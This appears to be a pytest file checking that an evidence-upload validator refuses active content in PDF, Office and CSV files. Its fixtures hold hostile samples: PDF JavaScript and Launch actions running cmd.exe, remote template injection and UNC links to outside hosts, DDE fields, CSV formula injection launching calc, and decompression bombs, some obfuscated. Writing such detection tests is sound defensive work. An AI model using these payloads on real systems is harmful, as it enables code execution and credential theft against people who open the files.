"""What a file would do when it is opened keeps it out, however it is hidden."""

import io
import zipfile
import zlib

import pytest

from plans.domain import packages
from plans.domain.active_content import Uncheckable, acts_as_pdf
from plans.domain.evidence_files import (
    ACTIVE,
    ACTIVE_PDF,
    BROKEN,
    DOCX,
    FORBIDDEN,
    MACROS,
    TEXT,
    TOO_COSTLY,
    XLSX,
    EvidenceRefused,
    check_evidence,
)
from tests.plans.domain.small_files import docx_of, pdf_of, xlsx_of

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCUMENT = "word/document.xml"


def packed(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


def document_with(name: str, content: bytes) -> bytes:
    return packed({DOCUMENT: b"<x/>", name: content})


def object_stream(content: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    stream = b"9 0 obj\n<< /Type /ObjStm %s >>\nstream\n%s\nendstream\nendobj\n"
    return pdf_of("x") + stream % (head, content)


REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"

TYPES = b'<Types><Override ContentType="application/x.macroEnabled.main+xml"/></Types>'
SIMPLE = b'<w:p><w:fldSimple w:instr=" dde excel x"/></w:p>'


def untold_stream(content: bytes) -> bytes:
    """Objects in a stream that does not say so; some readers look into it all the same."""
    return object_stream(zlib.compress(content)).replace(b"/Type /ObjStm", b"/N 1 /First 4")


def typed(types: bytes) -> bytes:
    return document_with("[Content_Types].xml", types)


def workbook_of(type_: bytes) -> bytes:
    types = b'<Types><Override PartName="/xl/a.xml" ContentType="%s"/></Types>' % type_
    return packed({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": types})


def related(
    kind: bytes, target: bytes, *, prefix: bytes = b"", id_: bytes = b"r1", end: bytes = b".rels"
) -> bytes:
    relation = (
        b'<%sRelationships xmlns:r="r"><%sRelationship Id="%s" Type="http://x/%s" Target="%s"/>'
    )
    closed = relation % (prefix, prefix, id_, kind, target) + b"</%sRelationships>" % prefix
    return document_with(f"word/_rels/a.xml{end.decode()}", closed)


def opening(target: bytes) -> bytes:
    relation = b'<a><Relationship Type="http://x/officeDocument" Target="%s"/></a>'
    return relation % target


def field(*pieces: bytes) -> bytes:
    """A field whose code is cut into pieces, as Word cuts it where it was typed over."""
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece for piece in pieces)
    return b"<w:p><w:fldChar/>%s<w:fldChar/></w:p>" % runs


REFUSED = [
    ("script.pdf", pdf_of("x") + SCRIPT, ACTIVE_PDF),
    ("escaped.pdf", pdf_of("x") + SCRIPT.replace(b"Java", b"J#61va"), ACTIVE_PDF),
    ("launch.pdf", pdf_of("x") + b"<< /S /Launch /F (cmd.exe) >>", ACTIVE_PDF),
    ("carrying.pdf", pdf_of("x") + b"<< /Type /EmbeddedFile >>", ACTIVE_PDF),
    ("packed.pdf", object_stream(zlib.compress(SCRIPT)), ACTIVE_PDF),
    ("plain.pdf", object_stream(SCRIPT, b""), ACTIVE_PDF),
    ("odd.pdf", object_stream(b"00>", b"/Filter /ASCIIHexDecode"), BROKEN),
    ("bomb.pdf", object_stream(zlib.compress(b" " * 110_000_000)), BROKEN),
    ("control.docx", document_with("word/activeX/activeX1.xml", b"<x/>"), MACROS),
    ("type.docx", typed(TYPES), MACROS),
    ("project.docx", document_with("word/a.bin", OLE + "_VBA_PROJECT".encode("utf-16-le")), MACROS),
    ("inner.docx", document_with("word/a.xlsx", packed({"xl/vbaProject.bin": b"x"})), MACROS),
    ("file.docx", document_with("word/a.bin", OLE + "\1Ole10Native".encode("utf-16-le")), ACTIVE),
    ("remote.docx", document_with("word/_rels/settings.xml.rels", REMOTE), ACTIVE),
    ("deep.docx", document_with("a.zip", packed({"b.zip": packed({"c": b"c"})})), BROKEN),
    ("entities.docx", packed({DOCUMENT: b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}), BROKEN),
    ("carried.pdf", pdf_of("x") + b"<< /Type /Filespec /EF << /F 9 0 R >> >>", ACTIVE_PDF),
    ("list.pdf", pdf_of("x") + b"<< /Names << /EmbeddedFiles 9 0 R >> >>", ACTIVE_PDF),
    ("form.pdf", pdf_of("x") + b"<< /AcroForm << /XFA%x\n[ (a) 9 0 R ] >> >>", ACTIVE_PDF),
    ("film.pdf", pdf_of("x") + b"<< /S /Rendition /JS (app.alert(1)) >>", ACTIVE_PDF),
    ("share.pdf", pdf_of("x") + b"<< /S /GoToE /F (\\\\10.0.0.1\\x) >>", ACTIVE_PDF),
    ("sent.pdf", pdf_of("x") + b"<< /S /SubmitForm /F (http://x.example) >>", ACTIVE_PDF),
    ("untold.pdf", untold_stream(SCRIPT), ACTIVE_PDF),
    ("line.pdf", untold_stream(SCRIPT).replace(b"stream\n", b"stream  x\r"), ACTIVE_PDF),
    ("cut.pdf", untold_stream(b" " * 33_000 + SCRIPT + b" " * 9000), ACTIVE_PDF),
    ("spoofed.pdf", object_stream(b"00>", b"/X (stream\n) /Filter /ASCIIHexDecode"), BROKEN),
    ("within.pdf", object_stream(b"00>", b"/X (obj) /Filter /ASCIIHexDecode"), BROKEN),
    ("named.xlsx", workbook_of(b"x/y/z.macrosheet+xml"), MACROS),
    ("utf16.docx", typed(TYPES.decode().encode("utf-16")), MACROS),
    ("escaped.docx", typed(TYPES.replace(b"Enabled", b"&#69;nabled")), MACROS),
    ("linked.docx", related(b"control", b"x.xml"), MACROS),
    ("prefix.docx", related(b"attachedTemplate", b"https://x.example/t", prefix=b"r:"), ACTIVE),
    ("letter.docx", related(b"attachedTemplate", b"&#104;ttps://x.example/t"), ACTIVE),
    ("closed.docx", related(b"attachedTemplate", b"https://x.example/t", id_=b"a>b"), ACTIVE),
    ("share.docx", related(b"image", b"file://10.0.0.1/x.png"), ACTIVE),
    ("slashes.docx", related(b"image", b"file:///\\\\10.0.0.1\\x.png"), ACTIVE),
    ("hosts.docx", related(b"frame", b"\\\\10.0.0.1\\x"), ACTIVE),
    ("capital.docx", related(b"attachedTemplate", b"http://x.example", end=b".RELS"), ACTIVE),
    ("chunk.docx", related(b"aFChunk", b"chunk.rtf"), ACTIVE),
    ("inner.docx", document_with("word/a.docx", related(b"image", b"//10.0.0.1/x")), ACTIVE),
    ("program.docx", document_with("word/media/a.EXE", b"MZ"), ACTIVE),
    ("jar.docx", document_with("META-INF/A.class", b"\xca\xfe\xba\xbe"), ACTIVE),
    ("field.docx", packed({DOCUMENT: field(b"DDE", b"AUTO c:\\x.exe")}), ACTIVE),
    ("simple.docx", packed({DOCUMENT: SIMPLE}), ACTIVE),
    ("wide.docx", packed({DOCUMENT: SIMPLE.decode().encode("utf-16")}), ACTIVE),
    ("fresh.xlsx", packed({"xl/c.xml": b"<connection refreshOnLoad='1'/>"}), ACTIVE),
    ("other.docx", packed({DOCUMENT: b"<x/>", "_rels/.rels": opening(b"y.xml")}), FORBIDDEN),
    ("twice.docx", packed({DOCUMENT: b"<x/>", "Word\\document.xml": b"<y/>"}), BROKEN),
    ("a.csv", b"1,\"=cmd|'/c calc'!A0\"", ACTIVE),
    ("b.csv", b"@SUM(1+9)*cmd|' /C calc'!A0", ACTIVE),
    ("old.csv", b"ID;PWXL;N;E", ACTIVE),
    ("swollen.docx", packed({DOCUMENT: b" " * 210_000_000}), TOO_COSTLY),
]


@pytest.mark.parametrize(("name", "data", "why"), REFUSED, ids=[name for name, *_rest in REFUSED])
def test_what_acts_is_refused(name: str, data: bytes, why: str) -> None:
    with pytest.raises(EvidenceRefused) as refused:
        check_evidence(data, name)
    assert refused.value.problem.template == why


def test_thousands_of_parts_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_MAX_PARTS", 3)
    with pytest.raises(EvidenceRefused) as refused:
        check_evidence(packed({DOCUMENT: b"<x/>", "a": b"", "b": b"", "c": b""}), "a.docx")
    assert refused.value.problem.template == TOO_COSTLY


def test_what_only_looks_like_it_is_kept() -> None:
    assert not acts_as_pdf(pdf_of("/JS") + b"/JavaScripted /LaunchPad /JS")
    assert not acts_as_pdf(untold_stream(b"BT (Java/JavaScript and /GoToR) Tj ET"))
    assert check_evidence(b"a|b!\n-1,+2,=3\n- wind|sun,1!", "a.csv").media_type == TEXT
    assert check_evidence(xlsx_of("Launch", "JavaScript"), "a.xlsx").media_type == XLSX


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        (b"attachedTemplate", b"file:///C:\\Users\\a\\Normal.dotm"),
        (b"image", b"file:///Users/a/x.png"),
        (b"image", b"media/image1.png"),
        (b"image", b"cid:image001.png@01D0"),
        (b"hyperlink", b"https://www.gov.cn/"),
        (b"externalLinkPath", b"file:///\\\\server\\a.xlsx"),
    ],
)
def test_what_leads_nowhere_or_waits_is_kept(kind: bytes, target: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(related(kind, target))) as package:
        extra = {"word/_rels/a.xml.rels": package.read("word/_rels/a.xml.rels")}
    with zipfile.ZipFile(io.BytesIO(docx_of("x"))) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert check_evidence(packed(parts | extra), "a.docx").media_type == DOCX


def test_an_encrypted_object_stream_cannot_be_judged() -> None:
    with pytest.raises(Uncheckable):
        acts_as_pdf(object_stream(zlib.compress(b"<< >>")) + b"trailer << /Encrypt 8 0 R >>")
